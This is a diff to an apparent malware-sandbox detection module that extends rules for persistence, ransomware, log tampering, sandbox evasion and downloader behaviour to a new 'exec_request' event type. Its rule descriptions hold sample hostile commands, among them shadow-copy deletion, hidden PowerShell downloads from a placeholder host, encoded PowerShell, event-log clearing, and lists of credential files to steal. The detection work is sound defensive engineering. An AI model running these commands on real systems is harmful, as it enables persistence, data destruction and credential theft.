@@ -478,8 +478,11 @@ def _first_word(ev: dict[str, Any]) -> str:
     return toks[0] if toks else ""
 
 
+EXECS = ("exec", "exec_request")
+
+
 def _scheduled_task(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
-    if ev.get("type") == "exec":
+    if ev.get("type") in EXECS:
         if not ev.get("ok", True) and ev.get("err") == "ENOENT" or ev.get("proc") in WIN_HELPERS:
             return None
         name, text = _prog(ev), _argv_text(ev).lower()
@@ -499,7 +502,7 @@ SC_CREATE_RE = re.compile(r"\b(create|config)\b.*\bbinpath\s*=", re.I)
 
 def _service(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
     typ = ev.get("type")
-    if typ == "exec":
+    if typ in EXECS:
         if ev.get("proc") in WIN_HELPERS:
             return None
         name, text = _prog(ev), _argv_text(ev)
@@ -701,7 +704,7 @@ CLEAR_LOG_RE = re.compile(r"wevtutil(?:\.exe)?\W+(?:cl|clear-log)\b|clear-eventl
 
 
 def _log_tampering(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
-    if ev.get("type") == "exec":
+    if ev.get("type") in EXECS:
         text = _argv_text(ev)
         return f"{text[:200]}{_attempt(ev)}" if CLEAR_LOG_RE.search(text) and ev.get("proc") not in WIN_HELPERS \
             else None
@@ -797,7 +800,7 @@ ENCODED_PS_RE = re.compile(r"\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|ec|enc|e
 
 def _windows_cmdline(ev: dict[str, Any]) -> str | None:
     """The command line of a program a Windows sample started (Wine's trace), or None."""
-    if ev.get("type") != "exec" or ev.get("src") != "wine" or ev.get("proc") in WIN_HELPERS:
+    if ev.get("type") not in EXECS or ev.get("src") != "wine" or ev.get("proc") in WIN_HELPERS:
         return None
     return _argv_text(ev)
 
@@ -1043,7 +1046,7 @@ def _anti_vm_windows(ev: dict[str, Any], ctx: RuleContext) -> str | None:
         if _s(ev.get("fn")).startswith("GetModuleHandle"):
             return f"{ev.get('fn')}({_s((ev.get('args') or [''])[0])}): looks for a sandbox or analysis DLL"
         return None
-    if typ == "exec":
+    if typ in EXECS:
         text = _argv_text(ev)
         return f"{text[:200]}" if VM_WMIC_RE.search(text) else None
     if ev.get("op") in ("read", "probe"):
@@ -1093,7 +1096,7 @@ def _long_sleep(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
             if LONG_SLEEP_S * 1000 <= ms < 0xFFFFFFFF:
                 return f"{ev.get('fn')}({ms} ms)"
         return None
-    if typ == "exec":
+    if typ in EXECS:
         m = DELAY_CMD_RE.search(_argv_text(ev))
         if m and ev.get("proc") not in WIN_HELPERS:
             n = int(next(g for g in m.groups() if g))
@@ -1332,10 +1335,10 @@ RULES: tuple[Rule, ...] = (
          r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater", _f(PERSIST)),
     Rule("persistence_startup_folder", 8, _t("file"), _startup_folder,
          "drops a file in a Windows Startup folder", r"...\Start Menu\Programs\Startup\x.lnk", _f(PERSIST)),
-    Rule("persistence_scheduled_task", 8, _t("exec", "file"), _scheduled_task,
+    Rule("persistence_scheduled_task", 8, _t("exec", "file", "exec_request"), _scheduled_task,
          "creates a Windows scheduled task (schtasks /create, at, Register-ScheduledTask, a file in the Tasks "
          "folder)", "schtasks /create /sc onlogon /tn upd /tr C:\\x.exe", _f(PERSIST)),
-    Rule("persistence_service", 8, _t("exec", "reg_set", "api"), _service,
+    Rule("persistence_service", 8, _t("exec", "reg_set", "api", "exec_request"), _service,
          "installs a Windows service (sc create/config binPath=, CreateService, a service's ImagePath or "
          "ServiceDll in the registry)", "sc create upd binPath= C:\\x.exe", _f(PERSIST)),
     Rule("ssh_authorized_keys", 9, _t("file"), _authorized_keys,
@@ -1351,7 +1354,7 @@ RULES: tuple[Rule, ...] = (
     Rule("ransom_note", 7, _t("file"), _ransom_note,
          "writes a ransom note (HOW_TO_DECRYPT.txt, README_RESTORE_FILES.html...) among the user's files",
          "Desktop/HOW_TO_DECRYPT.txt", _f(RANSOM)),
-    Rule("shadow_copy_deletion", 9, _t("exec"), _shadow_copies,
+    Rule("shadow_copy_deletion", 9, _t("exec", "exec_request"), _shadow_copies,
          "deletes shadow copies or backups, or disables recovery (vssadmin, wmic shadowcopy, bcdedit, wbadmin)",
          "vssadmin delete shadows /all /quiet", _f(RANSOM)),
     Rule("self_delete", 5, _t("file"), _self_delete, "deletes its own file", "rm $0", _f(EVASION)),
@@ -1359,7 +1362,7 @@ RULES: tuple[Rule, ...] = (
          "reads stored credentials: SSH keys, browser logins (Chrome/Edge Login Data, Firefox logins.json/key4.db), "
          "mail profiles (Outlook, Thunderbird), FileZilla, PuTTY/WinSCP sessions, wallets, cloud keys, /etc/shadow",
          "~/.ssh/id_rsa, ...\\Chrome\\User Data\\Default\\Login Data", _f(CREDS)),
-    Rule("log_tampering", 4, _t("file", "exec"), _log_tampering,
+    Rule("log_tampering", 4, _t("file", "exec", "exec_request"), _log_tampering,
          "deletes shell history, touches /var/log or clears Windows event logs", "rm ~/.bash_history; wevtutil cl",
          _f(EVASION)),
     Rule("drop_execute", 7, _t("exec"), _drop_execute,
@@ -1373,11 +1376,11 @@ RULES: tuple[Rule, ...] = (
     Rule("script_host_downloads_executable", 8, _t("http", "ftp"), _script_host_downloads,
          "a Windows script or shortcut (JScript, VBScript, HTA, batch, LNK) downloads an executable or a script",
          "wscript invoice.js -> GET http://x/dogovr2208.exe", _f(DOWNLOAD)),
-    Rule("lolbin_download", 8, _t("exec"), _lolbin_download,
+    Rule("lolbin_download", 8, _t("exec", "exec_request"), _lolbin_download,
          "starts a Windows tool to download code (PowerShell WebClient/Invoke-WebRequest, certutil -urlcache, "
          "bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32 with a URL)",
          "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://x/a.exe',...)", _f(DOWNLOAD)),
-    Rule("powershell_encoded_command", 6, _t("exec"), _encoded_powershell,
+    Rule("powershell_encoded_command", 6, _t("exec", "exec_request"), _encoded_powershell,
          "starts PowerShell with an encoded command (-enc/-EncodedCommand: hides what it runs)",
          "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A...", _f(EVASION)),
     Rule("self_copy", 6, _t("api", "exec", "file"), _self_copy,
@@ -1414,13 +1417,13 @@ RULES: tuple[Rule, ...] = (
     Rule("anti_debug", 4, _t("ptrace", "api"), _anti_debug,
          "checks whether it is being debugged (PTRACE_TRACEME, IsDebuggerPresent, CheckRemoteDebuggerPresent, "
          "ThreadHideFromDebugger)", "ptrace(PTRACE_TRACEME)", _f(EVASION)),
-    Rule("anti_vm_probe", 4, _t("file", "exec", "reg_open", "reg_query", "api"), _anti_vm,
+    Rule("anti_vm_probe", 4, _t("file", "exec", "reg_open", "reg_query", "api", "exec_request"), _anti_vm,
          "looks for signs of a VM or sandbox (DMI ids, hypervisor files, systemd-detect-virt, dmidecode; VMware/"
          "VirtualBox drivers, registry keys and BIOS strings, sandbox DLLs, wmic bios/computersystem)",
          "read /sys/class/dmi/id/product_name; GetModuleHandle(SbieDll.dll)", _f(EVASION)),
     Rule("cpu_info_probe", 2, _t("file"), _cpuinfo, "reads /proc/cpuinfo (hypervisor flag checks)",
          "read /proc/cpuinfo"),
-    Rule("long_sleep", 3, _t("sleep", "api", "exec"), _long_sleep,
+    Rule("long_sleep", 3, _t("sleep", "api", "exec", "exec_request"), _long_sleep,
          f"sleeps {LONG_SLEEP_S:g} s or longer (sandbox evasion: sleep(), Sleep(), ping -n / timeout /t delays)",
          "sleep(600); Sleep(600000); ping -n 60 127.0.0.1", _f(EVASION)),
     Rule("resource_exhaustion", 7, _t("clone_failed", "fork"), _resource_exhaustion,
